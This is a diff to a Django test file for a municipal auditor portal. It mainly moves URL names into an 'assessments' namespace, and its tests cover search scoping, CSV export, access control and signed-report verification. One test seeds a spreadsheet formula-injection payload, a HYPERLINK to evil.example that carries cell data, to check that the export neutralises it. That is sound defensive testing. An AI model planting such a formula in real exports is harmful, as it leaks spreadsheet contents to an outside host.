@@ -15,7 +15,7 @@ from assessments.models import AssessmentVersion, AuditEvent, MunicipalRole, Rep
 from tests import review_helpers as h
 from tests.report_helpers import use_test_seal
 
-SEARCH = reverse("auditor_search")
+SEARCH = reverse("assessments:auditor_search")
 
 
 def rows(response) -> list[str]:
@@ -85,14 +85,14 @@ def test_an_auditor_with_a_scope_sees_only_those_agencies(world, decided):
     MunicipalRole.objects.get(user=world.users["auditor"]).agencies.set([world.agency_b])
     client = world.client("auditor")
     assert rows(client.get(SEARCH)) == ["Oversetter i etaten"]
-    exported = read_csv(client.get(reverse("auditor_export")))
+    exported = read_csv(client.get(reverse("assessments:auditor_export")))
     assert [r["Tittel"] for r in exported] == ["Oversetter i etaten"]
 
 
 def test_the_csv_export_lists_the_search_and_neutralises_formulas(world, decided):
     evil = h.approved(world, '=HYPERLINK("http://evil.example/?"&A1;"klikk")')
     client = world.client("auditor")
-    exported = read_csv(client.get(reverse("auditor_export"), {"q": "HYPERLINK"}))
+    exported = read_csv(client.get(reverse("assessments:auditor_export"), {"q": "HYPERLINK"}))
     assert len(exported) == 1
     assert exported[0]["Tittel"] == "'" + evil.title
     assert exported[0]["ID"] == str(evil.uuid)
@@ -101,7 +101,7 @@ def test_the_csv_export_lists_the_search_and_neutralises_formulas(world, decided
 
 def test_leaders_cannot_use_the_portal(world, decided):
     assert world.client("leader_a").get(SEARCH).status_code == 403
-    assert world.client("leader_a").get(reverse("auditor_export")).status_code == 403
+    assert world.client("leader_a").get(reverse("assessments:auditor_export")).status_code == 403
 
 
 @pytest.mark.parametrize("size", [30, 400])
@@ -134,15 +134,15 @@ def test_it_finds_downloads_and_verifies_the_signed_report(
 
     client = world.client("auditor")
     page = client.get(SEARCH, {"q": "Copilot"}).content.decode()
-    download = reverse("report_download", args=[assessment.uuid, report.uuid])
+    download = reverse("assessments:report_download", args=[assessment.uuid, report.uuid])
     assert download in page
-    assert reverse("report_verify") in page
+    assert reverse("assessments:report_verify") in page
     pdf = client.get(download)
     assert pdf.status_code == 200
     data = b"".join(pdf.streaming_content)
     assert data.startswith(b"%PDF-")
     assert AuditEvent.objects.filter(action="report.downloaded", actor_id=world.users["auditor"].pk).exists()
 
-    verified = client.post(reverse("report_verify"), {"pdf": io.BytesIO(data)}, format="multipart")
+    verified = client.post(reverse("assessments:report_verify"), {"pdf": io.BytesIO(data)}, format="multipart")
     assert verified.status_code == 200
     assert "Seglet er gyldig, og filen er identisk med en lagret rapport." in verified.content.decode()
